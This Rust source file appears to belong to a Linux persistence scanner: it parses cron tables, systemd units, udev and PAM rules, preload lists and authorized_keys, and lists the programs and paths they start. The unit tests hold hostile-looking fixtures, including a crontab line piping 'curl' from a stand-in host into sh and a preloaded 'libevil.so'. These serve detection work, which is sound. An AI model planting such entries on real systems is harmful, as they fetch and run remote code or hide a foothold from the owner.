//! What a file of a persistence place names. It is no shell: it finds the program of a command and every absolute path,
//! and what a script puts together while it runs stays unseen.

use crate::platform::linux::persistence::places::Reading;

/// Bytes of a path, as the kernel has it.
const PATH_BYTES_MAX: usize = 4096;
/// Things that one file can name: 512. Beyond that it is a list, and no starter.
pub(super) const NAMED_PER_FILE_MAX: usize = 512;

/// Something that a file names.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Named {
    /// The program of a command, without a path.
    Command(Vec<u8>),
    /// A module of PAM, without a path.
    PamModule(Vec<u8>),
    /// A path in a command, or of a library: it counts even if nothing is there.
    Started(Vec<u8>),
    /// A path in any other text: it counts if a file is there.
    Mentioned(Vec<u8>),
    /// A program of udev, without a path.
    UdevCommand(Vec<u8>),
}

/// Returns what `text` names, each thing once, at most [`NAMED_PER_FILE_MAX`]; true where there was more.
pub(super) fn named_in(text: &[u8], reading: Reading) -> (Vec<Named>, bool) {
    let mut named = Vec::new();
    let joined = join_lines(text);
    for line in joined.split(|&byte| byte == b'\n') {
        let line = line.trim_ascii();
        if line.is_empty() || line.starts_with(b"#") {
            continue;
        }
        name_in_line(line, reading, &mut named);
        if named.len() > 4 * NAMED_PER_FILE_MAX {
            break;
        }
    }
    named.sort_unstable();
    named.dedup();
    let more = named.len() > NAMED_PER_FILE_MAX;
    named.truncate(NAMED_PER_FILE_MAX);
    (named, more)
}

/// Names the program and the paths of one command.
pub(super) fn name_command(command: &[u8], named: &mut Vec<Named>) {
    named.extend(paths_in(command).map(Named::Started));
    if let Some(program) = program_of(command) {
        named.push(Named::Command(program));
    }
}

fn name_in_line(line: &[u8], reading: Reading, named: &mut Vec<Named>) {
    let command = match reading {
        Reading::Nothing => return,
        Reading::Preload => {
            let apart = |byte: &u8| byte.is_ascii_whitespace() || *byte == b':';
            let libraries = line.split(apart).filter(|word| word.starts_with(b"/"));
            named.extend(libraries.map(|path| Named::Started(path.to_vec())));
            return;
        }
        Reading::PamRules => {
            let words = line.split(u8::is_ascii_whitespace);
            let modules = words.filter(|word| word.ends_with(b".so") && !word.contains(&b'/'));
            named.extend(modules.map(|module| Named::PamModule(module.to_vec())));
            named.extend(paths_in(line).map(Named::Started));
            return;
        }
        Reading::UdevRules => {
            name_udev_programs(line, named);
            return;
        }
        Reading::Anacrontab => after_words(line, 3).filter(|_| !is_assignment(line)),
        Reading::SystemCrontab => cron_command(line, true),
        Reading::UserCrontab => cron_command(line, false),
        Reading::ModuleRules => after_words(line, 2)
            .filter(|_| line.starts_with(b"install ") || line.starts_with(b"remove ")),
        Reading::Keys(keys) => key_command(line, keys),
        Reading::Text => None,
    };
    match command {
        Some(command) => name_command(command, named),
        None => named.extend(paths_in(line).map(Named::Mentioned)),
    }
}

/// A line that ends with a backslash goes on in the next one.
fn join_lines(text: &[u8]) -> Vec<u8> {
    let mut joined = Vec::with_capacity(text.len());
    let mut bytes = text.iter().copied().peekable();
    while let Some(byte) = bytes.next() {
        if byte == b'\\' && bytes.peek() == Some(&b'\n') {
            bytes.next();
            joined.push(b' ');
        } else {
            joined.push(byte);
        }
    }
    joined
}

fn cron_command(line: &[u8], with_user: bool) -> Option<&[u8]> {
    if is_assignment(line) {
        return None;
    }
    let times = if line.starts_with(b"@") { 1 } else { 5 };
    after_words(line, times + usize::from(with_user))
}

/// `NAME=value`, before any space.
fn is_assignment(line: &[u8]) -> bool {
    let name = line
        .iter()
        .take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_')
        .count();
    name > 0 && line[name..].trim_ascii_start().starts_with(b"=")
}

/// `Key=command`, or `options,key="command" …` as in `authorized_keys`(5).
fn key_command<'a>(line: &'a [u8], keys: &[&str]) -> Option<&'a [u8]> {
    for key in keys {
        let Some(at) = find(line, key.as_bytes()) else {
            continue;
        };
        if at > 0 && line[at - 1] != b',' {
            continue;
        }
        let rest = &line[at + key.len()..];
        let equals = rest.iter().position(|&byte| byte == b'=')?;
        let of_the_key = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b' ';
        if !rest[..equals].iter().all(of_the_key) {
            continue;
        }
        // Marks of systemd.exec(5) before the path.
        let command = rest[equals + 1..].trim_ascii();
        let marks = command
            .iter()
            .take_while(|byte| b"-@:+!|\"'".contains(byte))
            .count();
        return Some(&command[marks..]);
    }
    None
}

/// `RUN+="…"`, `PROGRAM=="…"`, `IMPORT{program}="…"`: the first word is a program, of udev's own folder if it has no path.
fn name_udev_programs(line: &[u8], named: &mut Vec<Named>) {
    for key in [b"RUN".as_slice(), b"PROGRAM", b"IMPORT{program}"] {
        let mut rest = line;
        while let Some(at) = find(rest, key) {
            rest = &rest[at + key.len()..];
            let Some(open) = rest.iter().position(|&byte| byte == b'"') else {
                break;
            };
            let value = &rest[open + 1..];
            let close = value.iter().position(|&byte| byte == b'"');
            let command = &value[..close.unwrap_or(value.len())];
            named.extend(paths_in(command).map(Named::Started));
            named.extend(program_of(command).map(Named::UdevCommand));
            rest = &value[command.len()..];
        }
    }
}

/// Returns the program of a command that gives no path for it. Assignments before it are passed over.
fn program_of(command: &[u8]) -> Option<Vec<u8>> {
    let mut words = command.split(u8::is_ascii_whitespace);
    let word = words.find(|word| !word.is_empty() && !is_assignment(word))?;
    let word = word.trim_ascii_start();
    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || b"._+-".contains(byte);
    (word.len() <= 255 && word.iter().all(is_name) && word != b"." && word != b"..")
        .then(|| word.to_vec())
}

/// Returns the absolute paths in a text, as far as no variable or pattern is in them.
fn paths_in(text: &[u8]) -> impl Iterator<Item = Vec<u8>> {
    let mut at = 0;
    std::iter::from_fn(move || {
        while let Some(offset) = text.get(at..)?.iter().position(|&byte| byte == b'/') {
            let start = at + offset;
            // What follows the name of a scheme is an address of the network.
            if start > 0 && text[start - 1] == b':' && text[start..].starts_with(b"//") {
                let rest = &text[start..];
                let length = rest
                    .iter()
                    .position(|byte| byte.is_ascii_whitespace() || b"\"'`;|&<>()".contains(byte));
                at = start + length.unwrap_or(rest.len());
                continue;
            }
            let ends = |byte: &u8| {
                byte.is_ascii_whitespace() || b"\"'`;|&<>(){}[]$*?,:=\\!%".contains(byte)
            };
            let length = text[start..].iter().position(ends);
            let end = length.map_or(text.len(), |length| start + length);
            at = end.max(start + 1);
            let starts_a_word = start == 0 || {
                let before = text[start - 1];
                !before.is_ascii_alphanumeric() && !b"._~/$}*?]".contains(&before)
            };
            let continues = text.get(end).is_some_and(|byte| b"$*?[{%".contains(byte));
            let path = plain_path(&text[start..end]);
            if starts_a_word && !continues && path.len() > 1 && path.len() < PATH_BYTES_MAX {
                return Some(path);
            }
        }
        None
    })
}

/// Removes repeated slashes, and one at the end.
fn plain_path(path: &[u8]) -> Vec<u8> {
    let mut plain: Vec<u8> = Vec::with_capacity(path.len());
    for &byte in path {
        if byte != b'/' || plain.last() != Some(&b'/') {
            plain.push(byte);
        }
    }
    if plain.len() > 1 && plain.last() == Some(&b'/') {
        plain.pop();
    }
    plain
}

/// Returns what stands behind so many words.
fn after_words(line: &[u8], count: usize) -> Option<&[u8]> {
    let mut rest = line.trim_ascii_start();
    for _ in 0..count {
        let end = rest.iter().position(u8::is_ascii_whitespace)?;
        rest = rest[end..].trim_ascii_start();
    }
    (!rest.is_empty()).then_some(rest)
}

fn find(text: &[u8], sought: &[u8]) -> Option<usize> {
    text.windows(sought.len())
        .position(|window| window == sought)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{Named, named_in};
    use crate::platform::linux::persistence::places::Reading;

    fn named(text: &str, reading: Reading) -> Vec<String> {
        let (named, _) = named_in(text.as_bytes(), reading);
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
        named
            .into_iter()
            .map(|named| match named {
                Named::Command(name) => format!("run {}", text(name)),
                Named::PamModule(name) => format!("pam {}", text(name)),
                Named::Started(path) => format!("start {}", text(path)),
                Named::Mentioned(path) => format!("see {}", text(path)),
                Named::UdevCommand(name) => format!("udev {}", text(name)),
            })
            .collect()
    }

    #[test]
    fn finds_what_each_kind_of_file_starts() {
        let units = Reading::Keys(&["Exec", "TryExec"]);
        let keys = Reading::Keys(&["command"]);
        let cases = [
            (
                units,
                "[Service]\nExecStart=-/opt/x/run --file=/etc/x.conf\nEnvironment=PATH=/bin",
                "start /etc/x.conf; start /opt/x/run; see /bin",
            ),
            (units, "ExecStartPre = !!sleep 1", "run sleep"),
            (
                units,
                "Exec=sh -c \"/usr/lib/.x/$HOME; /tmp/.y\"",
                "run sh; start /tmp/.y",
            ),
            (
                Reading::SystemCrontab,
                "SHELL=/bin/sh\n17 * * * * root cd / && /opt/a b\n@reboot root FOO=1 evil -x",
                "run cd; run evil; start /opt/a; see /bin/sh",
            ),
            (
                Reading::UserCrontab,
                "*/5 * * * * curl -s http://a.example/x|sh -s /dev/shm/.z",
                "run curl; start /dev/shm/.z",
            ),
            (
                Reading::Anacrontab,
                "1 5 cron.daily nice run-parts /etc/cron.daily",
                "run nice; start /etc/cron.daily",
            ),
            (
                Reading::ModuleRules,
                "install usb /sbin/modprobe --ignore-install usb; /opt/k\noptions a b=/c",
                "start /opt/k; start /sbin/modprobe; see /c",
            ),
            (
                Reading::Preload,
                "/lib/libevil.so:/usr/lib/b.so  /c.so",
                "start /c.so; start /lib/libevil.so; start /usr/lib/b.so",
            ),
            (
                Reading::PamRules,
                "auth [success=1] pam_unix.so nullok\nsession optional pam_exec.so quiet /usr/local/bin/log",
                "pam pam_exec.so; pam pam_unix.so; start /usr/local/bin/log",
            ),
            (
                Reading::UdevRules,
                "ACTION==\"add\", RUN+=\"/opt/d %k\", PROGRAM=\"ata_id $devnode\"",
                "start /opt/d; udev ata_id",
            ),
            (
                keys,
                "no-pty,command=\"/opt/k arg\" ssh-ed25519 AAAA/BBBB x@y",
                "start /opt/k",
            ),
            (keys, "ssh-ed25519 AAAA/command=BBBB x@y", ""),
            (
                Reading::Text,
                "# /a/b\n. /etc/rc \\\n /x//y/\ntest -x ${P}/no /lib/*.so http://h/p",
                "see /etc/rc; see /x/y",
            ),
            (Reading::Nothing, "/a/b", ""),
        ];
        for (reading, text, expected) in cases {
            assert_eq!(named(text, reading).join("; "), expected, "{text}");
        }
    }

    proptest! {
        #[test]
        fn takes_any_text(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
            for reading in [Reading::SystemCrontab, Reading::UdevRules, Reading::PamRules, Reading::Text, Reading::ModuleRules, Reading::Keys(&["Exec"])] {
                let _ = named_in(&bytes, reading);
            }
        }
    }
}
